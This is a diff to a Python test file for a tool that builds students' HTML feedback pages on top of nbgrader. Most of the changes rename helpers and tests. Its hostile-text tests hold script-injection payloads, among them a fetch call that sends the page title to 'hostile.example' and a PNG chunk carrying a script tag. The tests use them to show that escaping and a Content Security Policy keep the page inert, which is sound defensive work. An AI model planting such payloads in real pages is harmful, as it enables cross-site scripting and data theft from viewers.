@@ -1,4 +1,4 @@
-"""A student's page: all that it must say, nothing that it must not, and nothing that acts."""
+"""The student's feedback page: its content, omitted secrets, hostile text, accessibility."""
 
 from __future__ import annotations
 
@@ -21,7 +21,15 @@ from typing import Any
 import nbformat
 import pytest
 from browser import PATIENCE
-from class_cases import SLUG, Here, answers, by_length, copied, hand_in, released_course
+from class_cases import (
+    SLUG,
+    InProcessExecutor,
+    answers,
+    by_length,
+    copied,
+    hand_in,
+    released_course,
+)
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
@@ -70,9 +78,9 @@ RIGHT = TaskResult(
 )
 
 
-def found(task: TaskResult, *parts: Part, **words: str) -> TaskResult:
-    """A result whose check found something else."""
-    finding = replace(task.finding, **words)
+def with_finding(task: TaskResult, *parts: Part, **changes: str) -> TaskResult:
+    """Return a task result with another finding."""
+    finding = replace(task.finding, **changes)
     report = replace(task.report, parts=parts or task.report.parts, finding=finding)
     return replace(task, report=report)
 
@@ -80,15 +88,15 @@ def found(task: TaskResult, *parts: Part, **words: str) -> TaskResult:
 PROBLEM = "The submission's process is gone: it ended, with the exit code 3."
 
 
-def notebook(cells: Mapping[str, str] | None = None, *own: Any) -> Any:
-    """A rebuilt notebook: the student's answers, and cells of the student's own after the first."""
+def notebook(cells: Mapping[str, str] | None = None, *extra: Any) -> Any:
+    """Return a submission with answers, and with the student's own cells near the start."""
     made = build_submission(SLUG, cells or {}, HERE)
-    for number, cell in enumerate(own, start=1):
+    for number, cell in enumerate(extra, start=1):
         made.cells.insert(3 + number, nbformat.from_dict({"id": f"own-{number}", **cell}))
     return made
 
 
-def own(source: str, *outputs: dict[str, Any], kind: str = "code") -> dict[str, Any]:
+def own_cell(source: str, *outputs: dict[str, Any], kind: str = "code") -> dict[str, Any]:
     return {"cell_type": kind, "metadata": {}, "source": source, "outputs": list(outputs)}
 
 
@@ -127,8 +135,8 @@ class _Words(HTMLParser):
         self.words.append(data)
 
 
-def words(text: str) -> str:
-    """What a reader sees of a page, each run of spaces as one."""
+def visible_text(text: str) -> str:
+    """Return the visible text of a page, with single spaces."""
     parser = _Words()
     parser.feed(text.partition("</head>")[2])
     return " ".join("".join(parser.words).split())
@@ -138,11 +146,11 @@ def scores(**cells: CellScore) -> Scores:
     return Scores("ada", SLUG, {cell.name: cell for cell in cells.values()})
 
 
-# --- what it says ---------------------------------------------------------------------------------
+# --- content --------------------------------------------------------------------------------------
 
 
-def test_it_says_points_and_reasons_by_task() -> None:
-    said = words(page(notebook({"mul_layer": "class MulLayer: ..."})))
+def test_page_shows_points_and_reasons_by_task() -> None:
+    said = visible_text(page(notebook({"mul_layer": "class MulLayer: ..."})))
     assert "Exercise 1: the shopping cart" in said
     assert "Feedback for ada" in said
     assert "5 of 33 points" in said  # 2 + 3
@@ -160,9 +168,9 @@ def test_it_says_points_and_reasons_by_task() -> None:
     assert "Your code class MulLayer: ..." in said
 
 
-def test_the_tasks_stand_in_the_notebooks_order_with_their_own_code() -> None:
+def test_tasks_are_in_notebook_order_with_their_code() -> None:
     made = page(notebook({"mul_layer": "FIRST = 1", "add_layer": "SECOND = 2", "explain": "WORDS"}))
-    said = words(made)
+    said = visible_text(made)
     order = [
         "FIRST = 1",
         "Task 2: a sum node",
@@ -174,7 +182,7 @@ def test_the_tasks_stand_in_the_notebooks_order_with_their_own_code() -> None:
     assert places == sorted(places)
 
 
-def test_what_a_person_gave_counts_and_is_shown() -> None:
+def test_manual_points_and_comments_are_shown_and_counted() -> None:
     given = replace(
         scores(
             a=CellScore("check_mul_layer", 3.5, 4, by_person=True),
@@ -186,7 +194,7 @@ def test_what_a_person_gave_counts_and_is_shown() -> None:
         last_name="Lovelace",
         late_penalty=1.5,
     )
-    said = words(page(notebook(), scores=given))
+    said = visible_text(page(notebook(), scores=given))
     assert "Feedback for Ada Lovelace" in said
     assert "5 of 33 points" in said  # 3.5 + 3 - 1.5
     assert "Late submission: 1.5 points deducted." in said
@@ -195,36 +203,40 @@ def test_what_a_person_gave_counts_and_is_shown() -> None:
     assert "Task 8: explain to be graded by hand 0 / 3" in said
 
 
-def test_what_is_in_the_way_is_said_once() -> None:
+def test_each_problem_is_shown_once() -> None:
     made = page(notebook(), problems=("A cell is missing.", PROBLEM))
-    assert words(made).count(PROBLEM) == 1
+    assert visible_text(made).count(PROBLEM) == 1
     result = Result("ada", SLUG, (WRONG,), problems=(PROBLEM,))
-    said = words(feedback_page(HERE, notebook(), result, None, ("A cell is missing.", PROBLEM)))
+    said = visible_text(
+        feedback_page(HERE, notebook(), result, None, ("A cell is missing.", PROBLEM))
+    )
     assert said.count(PROBLEM) == 1
     assert said.count("A cell is missing.") == 1
     assert "An instructor will look at it." in said
 
 
-def test_a_work_that_nobody_could_read_has_a_page() -> None:
+def test_an_unreadable_submission_has_a_page() -> None:
     given = scores(a=CellScore("check_mul_layer", 0, 4, waits=True))
     result = Result("ada", SLUG)
-    said = words(feedback_page(HERE, None, result, given, ("It is no notebook.",)))
+    said = visible_text(feedback_page(HERE, None, result, given, ("It is no notebook.",)))
     assert "It is no notebook." in said
     assert "mul_layer to be graded by hand 0 / 4" in said
     assert "0 of 4 points" in said
-    assert words(feedback_page(HERE, None, result)).startswith(SLUG)
+    assert visible_text(feedback_page(HERE, None, result)).startswith(SLUG)
 
 
-def test_cells_of_ones_own_are_shown_where_they_stand() -> None:
+def test_students_own_cells_are_shown_at_their_position() -> None:
     nb = notebook(
-        {"mul_layer": "x = 1"}, own("print(1)", printed("1\n")), own("Mine.", kind="markdown")
+        {"mul_layer": "x = 1"},
+        own_cell("print(1)", printed("1\n")),
+        own_cell("Mine.", kind="markdown"),
     )
-    said = words(page(nb))
+    said = visible_text(page(nb))
     assert "Your code print(1) Output 1 Your text Mine." in said
 
 
-def test_what_cells_showed_comes_from_the_result_or_else_from_the_notebook() -> None:
-    nb = notebook({}, own("print(1)", printed("from the notebook")))
+def test_outputs_come_from_the_result_or_else_from_the_notebook() -> None:
+    nb = notebook({}, own_cell("print(1)", printed("from the notebook")))
     assert "from the notebook" in page(nb)
     outputs = tuple(
         [printed("from the result")] if cell["id"] == "own-1" else [] for cell in nb.cells
@@ -234,26 +246,26 @@ def test_what_cells_showed_comes_from_the_result_or_else_from_the_notebook() -> 
     assert "from the notebook" not in made
 
 
-def test_one_can_read_an_error_a_result_and_a_picture() -> None:
+def test_errors_results_and_pictures_are_shown() -> None:
     failed = {
         "output_type": "error",
         "ename": "KeyError",
         "evalue": "'slop'",
         "traceback": ["  line 2 of cell 3", "\x1b[31mKeyError\x1b[0m: 'slop'"],
     }
-    nb = notebook({}, own("f()", printed("a"), printed("b\n"), displayed(text="3.5"), failed))
+    nb = notebook({}, own_cell("f()", printed("a"), printed("b\n"), displayed(text="3.5"), failed))
     made = page(nb)
     assert '<pre class="output">ab\n</pre>' in made
     assert '<pre class="output">3.5</pre>' in made
     assert '<pre class="output bad">  line 2 of cell 3\nKeyError: &#39;slop&#39;</pre>' in made
-    nb = notebook({}, own("plot()", displayed(png=png(4, 3), text="<Figure>")))
+    nb = notebook({}, own_cell("plot()", displayed(png=png(4, 3), text="<Figure>")))
     assert f'<img src="data:image/png;base64,{png(4, 3)}" width="4" height="3" alt="' in page(nb)
 
 
-# --- what it does not say -------------------------------------------------------------------------
+# --- omitted content ------------------------------------------------------------------------------
 
 
-def test_it_shows_no_grade_cell_and_no_seed() -> None:
+def test_page_contains_no_grade_cell_and_no_seed() -> None:
     nb = notebook({"mul_layer": "x = 1"})
     for cell in nb.cells:
         if grade_id(cell).startswith("check_"):
@@ -267,21 +279,21 @@ def test_it_shows_no_grade_cell_and_no_seed() -> None:
     assert "ForgetsUpstream" not in made  # its name is for instructors
 
 
-def test_it_shows_no_path_of_this_machine() -> None:
+def test_page_contains_no_path_of_this_machine() -> None:
     course, home = str(HERE.root), str(Path.home())
     problem = f"It can't be read: '{course}/submitted/ada/x.ipynb' nor /etc/secret/key.pem."
-    wrong = found(WRONG, problem=f"OSError: {home}/x/y.txt", got=f"{sys.prefix}/lib/z.py")
-    nb = notebook({}, own("f()", printed(f"File {course}/solutions/a.md, {home}/b")))
+    wrong = with_finding(WRONG, problem=f"OSError: {home}/x/y.txt", got=f"{sys.prefix}/lib/z.py")
+    nb = notebook({}, own_cell("f()", printed(f"File {course}/solutions/a.md, {home}/b")))
     made = page(nb, (wrong,), problems=(problem,))
     for secret in (course, f"{home}/", sys.prefix, "/etc/secret"):
         assert secret not in made
     assert "…/x.ipynb" in made
     assert "…/key.pem" in made
-    assert "dL/dx" in page(nb, (found(WRONG, problem="dL/dx and a / b / c"),))
-    assert "a / b / c" in page(nb, (found(WRONG, problem="dL/dx and a / b / c"),))
+    assert "dL/dx" in page(nb, (with_finding(WRONG, problem="dL/dx and a / b / c"),))
+    assert "a / b / c" in page(nb, (with_finding(WRONG, problem="dL/dx and a / b / c"),))
 
 
-def test_it_is_small_and_whole() -> None:
+def test_page_is_small_and_self_contained() -> None:
     made = page(notebook(answers(HERE)))
     assert len(made.encode()) < 60_000
     assert not re.search(r'(?:src|href)="(?!#|data:image/(?:png|jpeg);base64,)', made)
@@ -289,20 +301,20 @@ def test_it_is_small_and_whole() -> None:
     assert "default-src 'none'; img-src data:; style-src 'unsafe-inline'" in made
 
 
-def test_what_is_much_is_cut_and_says_so() -> None:
-    nb = notebook({"mul_layer": "x = 1\n" * 20_000}, own("f()", printed("x" * 5_000_000)))
+def test_long_outputs_are_cut_with_a_note() -> None:
+    nb = notebook({"mul_layer": "x = 1\n" * 20_000}, own_cell("f()", printed("x" * 5_000_000)))
     made = page(nb)
     assert len(made) < 400_000
     assert "4,992,000 more characters are left out here." in made
-    lines = page(notebook({}, own("f()", printed("\n".join("abc" for _ in range(1000))))))
+    lines = page(notebook({}, own_cell("f()", printed("\n".join("abc" for _ in range(1000))))))
     assert "… 800 more lines are left out here." in lines
-    many = notebook({}, *(own("f()", *[printed("y" * 20_000)] * 50) for _ in range(50)))
+    many = notebook({}, *(own_cell("f()", *[printed("y" * 20_000)] * 50) for _ in range(50)))
     assert len(page(many)) < 400_000
-    pictures = notebook({}, *(own("p()", displayed(png=big_png())) for _ in range(30)))
+    pictures = notebook({}, *(own_cell("p()", displayed(png=big_png())) for _ in range(30)))
     assert len(page(pictures)) < 1_700_000
 
 
-# --- text of strangers ----------------------------------------------------------------------------
+# --- untrusted text -------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize(
@@ -326,7 +338,7 @@ def test_what_is_much_is_cut_and_says_so() -> None:
         (["list"], ""),
     ],
 )
-def test_readable(written: object, shown: str) -> None:
+def test_printable_text_removes_or_marks_control_characters(written: object, shown: str) -> None:
     assert printable_text(written) == shown
 
 
@@ -338,13 +350,13 @@ def test_long_text_is_cut() -> None:
 
 @given(st.text())
 @settings(max_examples=200, deadline=None)
-def test_highlighting_changes_no_character_and_lets_no_tag_through(code: str) -> None:
+def test_highlighting_keeps_every_character_and_escapes_tags(code: str) -> None:
     made = str(highlighted(code))
     assert html.unescape(re.sub(r'<span class="[a-z]">|</span>', "", made)) == code
     assert not re.search(r'<(?!span class="[a-z]">|/span>)', made)
 
 
-def test_highlighting_marks_words() -> None:
+def test_highlighting_marks_keywords_names_strings_and_comments() -> None:
     assert str(highlighted("def f(): return 'a<b'  # ok")) == (
         '<span class="k">def </span><span class="f">f</span>(): <span class="k">return </span>'
         '<span class="s">&#x27;a&lt;b&#x27;  </span><span class="c"># ok</span>'
@@ -380,7 +392,7 @@ def jpeg(width: int = 5, height: int = 4) -> bytes:
     return b"\xff\xd8" + app + frame + b"\xff\xd9"
 
 
-def test_a_picture_is_one() -> None:
+def test_png_and_jpeg_pictures_are_accepted() -> None:
     assert picture("image/png", png(4, 3)).address == f"data:image/png;base64,{png(4, 3)}"
     made = picture("image/jpeg", base64.b64encode(jpeg()).decode())
     assert (made.width, made.height) == (5, 4)
@@ -388,7 +400,7 @@ def test_a_picture_is_one() -> None:
     assert picture("image/png", lines) == picture("image/png", png(4, 3))
 
 
-def test_nothing_stays_in_a_picture_that_does_not_draw_it() -> None:
+def test_metadata_and_trailing_bytes_of_a_png_are_removed() -> None:
     text = chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")
     assert picture("image/png", png(4, 3, text, after=b"<html>")) == picture("image/png", png(4, 3))
 
@@ -415,18 +427,18 @@ def test_nothing_stays_in_a_picture_that_does_not_draw_it() -> None:
         ("text/html", png(4, 3)),
     ],
 )
-def test_what_is_no_picture_is_none(kind: str, encoded: object) -> None:
+def test_invalid_or_oversized_pictures_are_refused(kind: str, encoded: object) -> None:
     assert picture(kind, encoded) is None
 
 
-def test_a_chunk_with_a_wrong_sum_is_none() -> None:
+def test_a_png_with_a_wrong_checksum_is_refused() -> None:
     data = bytearray(base64.b64decode(png(4, 3)))
     data[20] ^= 1
     assert binascii.crc32(data[12:29]) != struct.unpack(">I", data[29:33])[0]
     assert picture("image/png", base64.b64encode(bytes(data)).decode()) is None
 
 
-# --- strangers' things in a browser ---------------------------------------------------------------
+# --- hostile text in a browser --------------------------------------------------------------------
 
 RUN = "window.ran = true; fetch('http://hostile.example/' + document.title)"
 MARKUP = [
@@ -473,10 +485,10 @@ SEEN = """(legal) => ({
 
 
 @contextmanager
-def opened(
+def open_page(
     browser: Any, folder: Path, made: str, **options: Any
 ) -> Iterator[tuple[Any, list[str]]]:
-    """Open a page, and note all that it asks for, says or shows beside itself."""
+    """Open a page, and record its requests, dialogs, popups, console messages and errors."""
     file = folder / "page.html"
     file.write_bytes(made.encode())
     context = browser.new_context(**{"viewport": {"width": 900, "height": 900}} | options)
@@ -495,8 +507,8 @@ def opened(
         context.close()
 
 
-def check_dead(browser: Any, folder: Path, made: str) -> None:
-    with opened(browser, folder, made) as (tab, said):
+def assert_inert(browser: Any, folder: Path, made: str) -> None:
+    with open_page(browser, folder, made) as (tab, said):
         seen = tab.evaluate(SEEN, LEGAL)
         tab.wait_for_timeout(50)
         asked = [url for url in said if not url.startswith("data:image/")]
@@ -512,8 +524,8 @@ def check_dead(browser: Any, folder: Path, made: str) -> None:
 
 
 def hostile_page(text: str) -> str:
-    """A page with the same text in every place that somebody else writes."""
-    wrong = found(
+    """Return a page with the same text in every untrusted place."""
+    wrong = with_finding(
         WRONG,
         Part(text, 1, 0, text),
         **dict.fromkeys(("problem", "wanted", "got", "hint"), text),
@@ -523,10 +535,12 @@ def hostile_page(text: str) -> str:
     alone = {"output_type": "error", "ename": text, "evalue": text, "traceback": []}
     nb = notebook(
         {"mul_layer": text, "explain": text},
-        own(text, printed(text), displayed(text=text), displayed(html=text, svg=text, js=text)),
-        own(text, displayed(png=text), displayed(jpeg=text), failed, alone),
-        own(text, kind="markdown"),
-        own(text, {"output_type": text, "data": text}, printed([text, 5, None])),
+        own_cell(
+            text, printed(text), displayed(text=text), displayed(html=text, svg=text, js=text)
+        ),
+        own_cell(text, displayed(png=text), displayed(jpeg=text), failed, alone),
+        own_cell(text, kind="markdown"),
+        own_cell(text, {"output_type": text, "data": text}, printed([text, 5, None])),
     )
     given = Scores(
         text,
@@ -541,27 +555,27 @@ def hostile_page(text: str) -> str:
 
 
 @pytest.mark.parametrize("text", MARKUP, ids=lambda text: ascii(text[:30]))
-def test_nothing_that_a_stranger_wrote_acts(browser: Any, tmp_path: Path, text: str) -> None:
+def test_hostile_text_is_inert(browser: Any, tmp_path: Path, text: str) -> None:
     made = hostile_page(text)
     made.encode("utf-8")
-    check_dead(browser, tmp_path, made)
+    assert_inert(browser, tmp_path, made)
 
 
-def test_the_browser_tests_notice_what_acts(browser: Any, tmp_path: Path) -> None:
-    """Markup that is let through is found, even though the page's policy stops what it does."""
+def test_assert_inert_detects_unescaped_markup(browser: Any, tmp_path: Path) -> None:
+    """`assert_inert` must fail although the page's policy blocks the script."""
     from markupsafe import Markup
 
     tricked = page(notebook()).replace("Feedback for ada", Markup(MARKUP[0] + MARKUP[3]))
     with pytest.raises(AssertionError):
-        check_dead(browser, tmp_path, tricked)
+        assert_inert(browser, tmp_path, tricked)
 
 
-def test_the_policy_stops_what_would_get_through(browser: Any, tmp_path: Path) -> None:
-    """The second wall: with all escaping gone, still no script runs and no request leaves."""
+def test_content_security_policy_blocks_unescaped_markup(browser: Any, tmp_path: Path) -> None:
+    """Without any escaping, no script runs and no request is sent."""
     bad = "".join(MARKUP[i] for i in (0, 3, 4, 7, 9, 10, 13, 14))
     made = page(notebook()).replace("Feedback for ada", bad)
     left: list[str] = []
-    with opened(browser, tmp_path, "<!doctype html><title>t</title>") as (tab, _said):
+    with open_page(browser, tmp_path, "<!doctype html><title>t</title>") as (tab, _said):
         tab.context.route(
             "http://**/*", lambda route: (left.append(route.request.url), route.abort())
         )
@@ -571,7 +585,7 @@ def test_the_policy_stops_what_would_get_through(browser: Any, tmp_path: Path) -
         tab.wait_for_timeout(100)
         assert tab.evaluate("window.ran") is None
         assert left == []
-        # Without the policy all of it gets through: the page above was not dead by chance.
+        # Without the policy, scripts run and requests are sent.
         file.write_text(re.sub("<meta http-equiv=.Content-Security-Policy.[^>]*>", "", made))
         tab.goto(file.as_uri())
         tab.wait_for_timeout(100)
@@ -579,20 +593,20 @@ def test_the_policy_stops_what_would_get_through(browser: Any, tmp_path: Path) -
         assert len(left) > 3
 
 
-def test_invisible_marks_are_seen() -> None:
-    said = words(hostile_page(MARKUP[18]))
+def test_invisible_characters_are_shown_by_code_point() -> None:
+    said = visible_text(hostile_page(MARKUP[18]))
     assert "[U+202E][U+2066] nettelle" in said
     assert not re.search("[\u202a-\u202e\u2066-\u2069\x00\x1b]", hostile_page(MARKUP[18]))
 
 
-# --- readers --------------------------------------------------------------------------------------
+# --- accessibility and print ----------------------------------------------------------------------
 
 
 def full_page() -> str:
     nb = notebook(
         answers(HERE),
-        own("plot()", displayed(png=png(600, 400), text="<Figure>"), printed("w" * 3000)),
-        own("Words of my own.", kind="markdown"),
+        own_cell("plot()", displayed(png=png(600, 400), text="<Figure>"), printed("w" * 3000)),
+        own_cell("Words of my own.", kind="markdown"),
     )
     given = Scores(
         "ada",
@@ -609,24 +623,27 @@ def full_page() -> str:
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_axe_finds_nothing(browser: Any, axe: str, tmp_path: Path, scheme: str) -> None:
+def test_axe_finds_no_violation(browser: Any, axe: str, tmp_path: Path, scheme: str) -> None:
     from browser import violations
 
-    with opened(browser, tmp_path, full_page(), color_scheme=scheme, bypass_csp=True) as (tab, _):
+    with open_page(browser, tmp_path, full_page(), color_scheme=scheme, bypass_csp=True) as (
+        tab,
+        _,
+    ):
         assert violations(tab, axe) == []
 
 
 @pytest.mark.parametrize("made", [full_page, lambda: hostile_page("a" * 20_000)])
-def test_it_fits_a_phone(browser: Any, tmp_path: Path, made: Any) -> None:
+def test_page_fits_a_phone(browser: Any, tmp_path: Path, made: Any) -> None:
     from browser import sideways
 
     phone = {"viewport": {"width": 360, "height": 740}}
-    with opened(browser, tmp_path, made(), **phone) as (tab, _):
+    with open_page(browser, tmp_path, made(), **phone) as (tab, _):
         assert sideways(tab) == []
 
 
-def test_on_paper_everything_is_black_on_white(browser: Any, tmp_path: Path) -> None:
-    with opened(browser, tmp_path, full_page(), color_scheme="dark") as (tab, _):
+def test_printed_page_is_black_on_white(browser: Any, tmp_path: Path) -> None:
+    with open_page(browser, tmp_path, full_page(), color_scheme="dark") as (tab, _):
         tab.emulate_media(media="print")
         colours = "(s) => [...document.querySelectorAll(s)].map((e) => getComputedStyle(e).color)"
         assert set(tab.evaluate(colours, "p, th, td, pre")) <= {"rgb(0, 0, 0)", "rgb(51, 51, 51)"}
@@ -643,7 +660,7 @@ def graded(tmp_path_factory: pytest.TempPathFactory) -> Course:
     hand_in(course, "ada", answers(course), when="2026-03-01 12:00:00 UTC")
     hand_in(course, "bob", {"mul_layer": "x = 1"})
     hand_in(course, "eve", "no notebook")
-    grade(course, [SLUG], Here(by_length), Options(seed=1))
+    grade(course, [SLUG], InProcessExecutor(by_length), Options(seed=1))
     return course
 
 
@@ -652,37 +669,37 @@ def course(graded: Course, tmp_path: Path) -> Course:
     return copied(graded, tmp_path / "my course")
 
 
-def place(course: Course, student: str) -> Path:
+def feedback_path(course: Course, student: str) -> Path:
     return course.root / "feedback" / student / SLUG / f"{SLUG}.html"
 
 
-def test_grading_writes_the_pages_where_nbgrader_has_its_own(course: Course) -> None:
-    assert "Feedback for ada" in place(course, "ada").read_text()
-    assert "x = 1" in html.unescape(re.sub("<[^>]*>", "", place(course, "bob").read_text()))
-    assert "Problems" in place(course, "eve").read_text()
+def test_grading_writes_pages_to_nbgraders_feedback_folder(course: Course) -> None:
+    assert "Feedback for ada" in feedback_path(course, "ada").read_text()
+    assert "x = 1" in html.unescape(re.sub("<[^>]*>", "", feedback_path(course, "bob").read_text()))
+    assert "Problems" in feedback_path(course, "eve").read_text()
 
 
-def test_pages_are_written_again_with_what_people_gave(course: Course) -> None:
+def test_write_feedback_adds_manual_points_and_comments(course: Course) -> None:
     with open_gradebook(course) as book:
         book.find_grade("explain", SLUG, SLUG, "ada").manual_score = 2.5
         book.find_grade("explain", SLUG, SLUG, "ada").needs_manual_grade = False
         book.find_comment("explain", SLUG, SLUG, "ada").manual_comment = "Well put."
         book.db.commit()
-    before = place(course, "bob").read_text()
+    before = feedback_path(course, "bob").read_text()
     written = write_feedback(course, SLUG)
     assert (written.pages, written.left_out) == (3, [])
-    said = words(place(course, "ada").read_text())
+    said = visible_text(feedback_path(course, "ada").read_text())
     assert "2.5 of 3 points, graded by hand" in said
     assert "Well put." in said
-    assert place(course, "bob").read_text() == before
+    assert feedback_path(course, "bob").read_text() == before
     assert read_scores(course, SLUG)["ada"].by_person
 
 
-def test_only_what_was_graded_gets_a_page(course: Course) -> None:
+def test_ungraded_submissions_get_no_page(course: Course) -> None:
     hand_in(course, "bob", {"mul_layer": "x = 2"})
     hand_in(course, "kim", {"mul_layer": "x = 3"})
     ResultStore(course, SLUG).forget(["eve"])
-    before = place(course, "bob").read_text()
+    before = feedback_path(course, "bob").read_text()
     written = write_feedback(course, SLUG)
     assert written.pages == 1
     assert written.left_out == [
@@ -690,8 +707,8 @@ def test_only_what_was_graded_gets_a_page(course: Course) -> None:
         "eve: not graded yet",
         "kim: not graded yet",
     ]
-    assert place(course, "bob").read_text() == before
-    assert not place(course, "kim").exists()
+    assert feedback_path(course, "bob").read_text() == before
+    assert not feedback_path(course, "kim").exists()
     assert write_feedback(course, SLUG, ["ada"]).pages == 1
 
 
@@ -705,55 +722,59 @@ def nbgrader(course: Course, *command: str) -> None:
     )
 
 
-def collected(course: Course, student: str, cells: Mapping[str, str], secret: str) -> None:
-    """Put a submission where `nbgrader collect` puts what `nbgrader submit` made."""
+def hand_in_with_secret(
+    course: Course, student: str, cells: Mapping[str, str], secret: str
+) -> None:
+    """Write a submission with its secret as `nbgrader collect` does."""
     folder = hand_in(course, student, cells, when="2026-03-01 12:00:00.000000 UTC").parent
     (folder / "submission_secret.txt").write_text(secret)
 
 
-def released(course: Course, secret: str) -> bytes:
-    """The page that `nbgrader fetch_feedback` finds by a secret."""
+def released_feedback(course: Course, secret: str) -> bytes:
+    """Return the page that `nbgrader fetch_feedback` finds by a secret."""
     name = hashlib.md5(secret.encode() + SLUG.encode()).hexdigest()
     (page,) = (course.root / "exchange").glob(f"*/feedback/{name}.html")
     return page.read_bytes()
 
 
-def test_nbgrader_releases_the_pages_of_grading(course: Course) -> None:
+def test_release_feedback_releases_the_pages_of_course_grade(course: Course) -> None:
     solved = answers(course)
-    collected(course, "ada", solved, "first" * 20)
-    collected(course, "bob", {"mul_layer": "x = 1"}, "bob's" * 20)
-    grade(course, [SLUG], Here(by_length), Options(seed=1))
-    first = place(course, "ada").read_bytes()
-    # eve's submission has no secret; that does not stop the others
+    hand_in_with_secret(course, "ada", solved, "first" * 20)
+    hand_in_with_secret(course, "bob", {"mul_layer": "x = 1"}, "bob's" * 20)
+    grade(course, [SLUG], InProcessExecutor(by_length), Options(seed=1))
+    first = feedback_path(course, "ada").read_bytes()
+    # eve's submission has no secret, which does not affect the others
     nbgrader(course, "release_feedback", SLUG)
-    assert released(course, "first" * 20) == first
-    assert released(course, "bob's" * 20) == place(course, "bob").read_bytes()
+    assert released_feedback(course, "first" * 20) == first
+    assert released_feedback(course, "bob's" * 20) == feedback_path(course, "bob").read_bytes()
 
-    # the same cells once more: the page is that of the submission it is about
-    collected(course, "ada", solved, "second" * 20)
-    # and of somebody who then hands in by another way
+    # ada submits the same cells again, with a new secret
+    hand_in_with_secret(course, "ada", solved, "second" * 20)
+    # bob's submission has no secret any more
     (course.root / "submitted" / "bob" / SLUG / "submission_secret.txt").unlink()
-    grade(course, [SLUG], Here(by_length), Options(seed=1))
-    beside = place(course, "bob").with_name("submission_secret.txt")
+    grade(course, [SLUG], InProcessExecutor(by_length), Options(seed=1))
+    beside = feedback_path(course, "bob").with_name("submission_secret.txt")
     assert beside.read_text() != "bob's" * 20
     nbgrader(course, "release_feedback", SLUG)
-    assert released(course, "second" * 20) == place(course, "ada").read_bytes()
+    assert released_feedback(course, "second" * 20) == feedback_path(course, "ada").read_bytes()
 
 
-def test_nbgrader_can_put_its_own_page_in_place(course: Course) -> None:
-    collected(course, "ada", answers(course), "first" * 20)
-    grade(course, [SLUG], Here(by_length), Options(seed=1))
-    made = place(course, "ada").read_bytes()
+def test_generate_feedback_replaces_the_page(course: Course) -> None:
+    hand_in_with_secret(course, "ada", answers(course), "first" * 20)
+    grade(course, [SLUG], InProcessExecutor(by_length), Options(seed=1))
+    made = feedback_path(course, "ada").read_bytes()
     nbgrader(course, "generate_feedback", SLUG, "--student=ada", "--force")
-    theirs = place(course, "ada").read_bytes()
+    theirs = feedback_path(course, "ada").read_bytes()
     assert theirs != made
     assert b"notebook" in theirs
     nbgrader(course, "release_feedback", SLUG, "--student=ada")
-    assert released(course, "first" * 20) == theirs
+    assert released_feedback(course, "first" * 20) == theirs
 
 
 @pytest.mark.parametrize("kind", ["link", "bytes", "large", "empty"])
-def test_only_a_plain_short_secret_is_taken(course: Course, tmp_path: Path, kind: str) -> None:
+def test_an_invalid_submission_secret_is_replaced(
+    course: Course, tmp_path: Path, kind: str
+) -> None:
     (tmp_path / "private").write_text("private")
     secret = course.root / "submitted" / "ada" / SLUG / "submission_secret.txt"
     if kind == "link":
@@ -761,18 +782,18 @@ def test_only_a_plain_short_secret_is_taken(course: Course, tmp_path: Path, kind
     else:
         secret.write_bytes({"bytes": b"\xff", "large": b"a" * 2000, "empty": b""}[kind])
     assert write_feedback(course, SLUG, ["ada"]).pages == 1
-    beside = place(course, "ada").with_name("submission_secret.txt")
+    beside = feedback_path(course, "ada").with_name("submission_secret.txt")
     assert re.fullmatch("[0-9a-f]{64}", beside.read_text())
 
 
-def test_the_headings_of_the_tasks() -> None:
+def test_task_titles_come_from_the_headings() -> None:
     titles = task_titles(notebook())
     assert titles["check_mul_layer"] == "Task 1: a product node"
     assert titles["explain"] == "Task 8: explain"
     assert list(titles)[:2] == ["check_mul_layer", "check_add_layer"]
 
 
-def test_an_assignment_that_was_not_released_is_said(course: Course) -> None:
+def test_an_unreleased_assignment_is_reported(course: Course) -> None:
     course.released(SLUG).unlink()
     with pytest.raises(CourseError, match="course release"):
         write_feedback(course, SLUG)
